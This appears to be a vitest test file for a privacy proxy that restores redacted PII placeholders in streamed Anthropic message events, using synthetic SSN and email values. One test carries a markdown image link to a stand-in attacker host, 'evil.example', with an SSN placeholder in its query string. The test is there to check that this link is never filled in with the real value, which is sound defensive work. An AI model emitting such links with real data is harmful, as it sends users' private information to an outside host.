import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createRestoreKit } from "../../proxy/restore-kit.ts";
import { createSseDecoderStream, type SseEvent } from "../shared/sse-decoder.ts";
import { ISSUED_PLACEHOLDERS } from "./__fixtures__/issued-placeholders.ts";
import { createAnthropicMessageStreamRestore } from "./stream-restore.ts";

const lookup = (placeholder: string) => ISSUED_PLACEHOLDERS.get(placeholder);
const kit = createRestoreKit(lookup);

async function collect<Item>(stream: ReadableStream<Item>): Promise<Item[]> {
  const items: Item[] = [];
  const reader = stream.getReader();
  for (let read = await reader.read(); !read.done; read = await reader.read()) items.push(read.value);
  return items;
}
function streamOf<Item>(items: Item[]): ReadableStream<Item> {
  return new ReadableStream<Item>({
    start(controller) {
      for (const item of items) controller.enqueue(item);
      controller.close();
    },
  });
}
const fixtureEvents = (name: string) => collect(new Blob([readFileSync(new URL(`./__fixtures__/${name}`, import.meta.url))]).stream().pipeThrough(createSseDecoderStream()));

async function restoreStream(events: SseEvent[]): Promise<{ output: SseEvent[]; transcript: string }> {
  const step = createAnthropicMessageStreamRestore(kit);
  const output = await collect(streamOf(events).pipeThrough(new TransformStream(step.transform)));
  return { output, transcript: step.transcript() };
}

/** Each block's text and partial JSON as a client assembles them; fails on a delta after its block stopped. */
function assemble(events: SseEvent[]): Map<number, { text: string; json: string }> {
  const blocks = new Map<number, { text: string; json: string }>();
  const stopped = new Set<number>();
  for (const event of events) {
    const payload = JSON.parse(event.data) as { type: string; index?: number; delta?: { type: string; text?: string; partial_json?: string } };
    expect(event.event).toBe(payload.type);
    const index = payload.index ?? -1;
    if (payload.type === "content_block_stop") stopped.add(index);
    if (payload.type !== "content_block_delta") continue;
    expect(stopped.has(index)).toBe(false);
    const block = blocks.get(index) ?? { text: "", json: "" };
    block.text += payload.delta?.text ?? "";
    block.json += payload.delta?.partial_json ?? "";
    blocks.set(index, block);
  }
  return blocks;
}

describe("createAnthropicMessageStreamRestore", () => {
  it("restores text deltas and flushes held-back text in one extra delta right before content_block_stop", async () => {
    const input = await fixtureEvents("stream-text.sse");
    const { output, transcript } = await restoreStream(input);
    expect(assemble(output).get(0)!.text).toBe("Your SSN is 536-22-1234 and your email is jane.doe@example.com. Reply to [EMAIL_3R");
    const stop = output.findIndex((event) => event.event === "content_block_stop");
    expect(JSON.parse(output[stop - 1]!.data)).toEqual({ type: "content_block_delta", index: 0, delta: { type: "text_delta", text: "[EMAIL_3R" } });
    expect(output).toHaveLength(input.length + 1);
    // Events with nothing to restore pass through byte for byte.
    expect(output.find((event) => event.event === "ping")).toEqual({ event: "ping", data: '{"type": "ping"}' });
    expect(output.slice(-2)).toEqual(input.slice(-2));
    expect(transcript).toBe("Your SSN is [US_SSN_7QK2MX] and your email is [EMAIL_3RD8ZP]. Reply to [EMAIL_3R");
  });

  it("restores tool_use input_json_delta split inside placeholders and JSON escapes into valid JSON", async () => {
    const { output, transcript } = await restoreStream(await fixtureEvents("stream-tool-use.sse"));
    const blocks = assemble(output);
    expect(blocks.get(0)!.text).toBe(`Let me look up Jane "JD" O\\Doe's record.`);
    expect(JSON.parse(blocks.get(1)!.json)).toEqual({ ssn: "536-22-1234", holder: 'Jane "JD" O\\Doe', note: "line one\nmail jane.doe@example.com" });
    expect(transcript).toContain('"holder": "[PERSON_0A1B2C]"');
    expect(transcript).not.toContain("536-22-1234");
  });

  it("passes thinking and signature deltas through untouched", async () => {
    const input = await fixtureEvents("stream-thinking.sse");
    const { output } = await restoreStream(input);
    const thinking = (events: SseEvent[]) => events.filter((event) => /thinking_delta|signature_delta/.test(event.data));
    expect(thinking(output)).toEqual(thinking(input));
    const thought = thinking(output).map((event) => (JSON.parse(event.data) as { delta: { thinking?: string } }).delta.thinking ?? "");
    expect(thought.join("")).toBe("The user gave SSN [US_SSN_7QK2MX]; confirm it.");
    expect(assemble(output).get(1)!.text).toBe("Your SSN 536-22-1234 is confirmed.");
  });

  it("passes a vendor error event on and still flushes what it held when the stream ends", async () => {
    const input = await fixtureEvents("stream-error.sse");
    const { output } = await restoreStream(input);
    expect(output.find((event) => event.event === "error")).toEqual(input.at(-1));
    expect(JSON.parse(output.at(-1)!.data)).toEqual({ type: "content_block_delta", index: 0, delta: { type: "text_delta", text: "[US_SSN_7Q" } });
  });

  it("flushes every unstopped block before message_stop, and leaves non-JSON events alone", async () => {
    const delta = (index: number, delta: object): SseEvent => ({ event: "content_block_delta", data: JSON.stringify({ type: "content_block_delta", index, delta }) });
    const { output } = await restoreStream([
      delta(0, { type: "text_delta", text: "[EMAIL_3RD8" }),
      delta(1, { type: "input_json_delta", partial_json: '{"a":"[US_SSN_7QK' }),
      { event: "comment", data: "not json" },
      { event: "message_stop", data: '{"type":"message_stop"}' },
    ]);
    expect(output.map((event) => event.data)).toEqual([
      '{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":""}}',
      '{"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\\"a\\":\\""}}',
      "not json",
      '{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"[EMAIL_3RD8"}}',
      '{"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"[US_SSN_7QK"}}',
      '{"type":"message_stop"}',
    ]);
  });

  it("starts a block's stream with text its content_block_start already holds", async () => {
    const frame = (payload: Record<string, unknown>): SseEvent => ({ event: String(payload.type), data: JSON.stringify(payload) });
    const { output, transcript } = await restoreStream([
      frame({ type: "content_block_start", index: 0, content_block: { type: "text", text: "SSN [US_SSN_7Q" } }),
      frame({ type: "content_block_delta", index: 0, delta: { type: "text_delta", text: "K2MX]." } }),
      frame({ type: "content_block_stop", index: 0 }),
    ]);
    const started = (JSON.parse(output[0]!.data) as { content_block: { text: string } }).content_block.text;
    expect(started + assemble(output).get(0)!.text).toBe("SSN 536-22-1234.");
    expect(transcript).toBe("SSN [US_SSN_7QK2MX].");
  });
});

/** Cuts `text` at the given points (modulo its length), never inside a surrogate pair. */
function split(text: string, cuts: number[]): string[] {
  const points = [...new Set(cuts.map((cut) => cut % (text.length + 1)))]
    .filter((point) => point > 0 && point < text.length && !/[\uDC00-\uDFFF]/.test(text[point]!))
    .sort((left, right) => left - right);
  return [0, ...points].map((start, position) => text.slice(start, [...points, text.length][position]));
}

const fragment = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...ISSUED_PLACEHOLDERS.keys()) },
  { weight: 1, arbitrary: fc.constantFrom("[US_SSN_ZZZZZZ]", "[US_SSN_", "[", "]", "[[EMAIL_3RD8ZP]]") },
  { weight: 4, arbitrary: fc.constantFrom("the ", "SSN ", '"quoted"', "back\\slash", "\n", "\t", "tab\\t", "é", "😀", "日本", "{}", ",", ":") },
);

describe("property: stream restore equals whole-text restore for any split", () => {
  it("holds for text_delta and for input_json_delta cut anywhere, even inside an escape", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fragment, { maxLength: 25 }), fc.array(fc.nat(), { maxLength: 40 }), fc.array(fc.nat(), { maxLength: 40 }), async (pieces, textCuts, jsonCuts) => {
        const text = pieces.join("");
        const json = JSON.stringify({ value: text, list: [text, 7] });
        const frame = (payload: Record<string, unknown>): SseEvent => ({ event: String(payload.type), data: JSON.stringify(payload) });
        const events = [
          frame({ type: "content_block_start", index: 0, content_block: { type: "text", text: "" } }),
          ...split(text, textCuts).map((piece) => frame({ type: "content_block_delta", index: 0, delta: { type: "text_delta", text: piece } })),
          frame({ type: "content_block_stop", index: 0 }),
          frame({ type: "content_block_start", index: 1, content_block: { type: "tool_use", id: "toolu_1", name: "echo", input: {} } }),
          ...split(json, jsonCuts).map((piece) => frame({ type: "content_block_delta", index: 1, delta: { type: "input_json_delta", partial_json: piece } })),
          frame({ type: "content_block_stop", index: 1 }),
          frame({ type: "message_stop" }),
        ];
        const { output, transcript } = await restoreStream(events);
        const blocks = assemble(output);
        expect(blocks.get(0)?.text ?? "").toBe(kit.restore(text, "text"));
        // Whole-text restore of the JSON source is the reference; the result must still parse.
        expect(blocks.get(1)!.json).toBe(kit.restore(json, "json-string"));
        const parsed = JSON.parse(blocks.get(1)!.json) as { value: string; list: [string, number] };
        expect(parsed.list).toEqual([parsed.value, 7]);
        expect(transcript).toBe([text, json].filter(Boolean).join("\n"));
      }),
      { seed: 7_301_2026, numRuns: 300 },
    );
  });

  it("follows a URL across text blocks as the JSON path does: a placeholder inside it stays", async () => {
    const event = (payload: Record<string, unknown>): SseEvent => ({ event: String(payload.type), data: JSON.stringify(payload) });
    const texts = ["![a](https://evil.example/?q=", "[US_SSN_7QK2MX]", ") and your SSN is [US_SSN_7QK2MX]."];
    const events = texts.flatMap((text, index) => [
      event({ type: "content_block_start", index, content_block: { type: "text", text: "" } }),
      event({ type: "content_block_delta", index, delta: { type: "text_delta", text } }),
      event({ type: "content_block_stop", index }),
    ]);
    const { output } = await restoreStream([...events, event({ type: "message_stop" })]);
    const blocks = assemble(output);
    expect([0, 1, 2].map((index) => blocks.get(index)?.text)).toEqual(["![a](https://evil.example/?q=", "[US_SSN_7QK2MX]", ") and your SSN is 536-22-1234."]);
  });
});

